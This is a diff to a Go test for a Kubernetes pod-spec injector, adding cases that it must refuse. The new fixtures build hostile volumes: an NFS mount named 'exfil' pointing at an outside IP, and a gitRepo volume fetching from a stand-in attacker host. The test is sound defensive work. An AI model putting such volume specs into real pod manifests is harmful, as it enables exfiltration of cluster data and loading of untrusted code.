@@ -195,6 +195,12 @@ func TestInjectRefuses(t *testing.T) {
 		{"credential Secret envFrom", func(s *corev1.PodSpec) {
 			s.Containers[0].EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: DefaultSecret}}}}
 		}, []string{`container "app": envFrom.secretRef reads Secret "botbox-secrets"`}},
+		{"nfs volume", func(s *corev1.PodSpec) {
+			s.Volumes = append(s.Volumes, corev1.Volume{Name: "exfil", VolumeSource: corev1.VolumeSource{NFS: &corev1.NFSVolumeSource{Server: "203.0.113.9", Path: "/"}}})
+		}, []string{`volume "exfil" is of type nfs (spec.volumes[].nfs)`}},
+		{"gitRepo volume", func(s *corev1.PodSpec) {
+			s.Volumes = append(s.Volumes, corev1.Volume{Name: "g", VolumeSource: corev1.VolumeSource{GitRepo: &corev1.GitRepoVolumeSource{Repository: "https://attacker.example/x"}}})
+		}, []string{`volume "g" is of type gitRepo`}},
 		{"app named botbox", func(s *corev1.PodSpec) { s.Containers[0].Name = NameBotBox }, []string{`container "botbox": the name is reserved`}},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
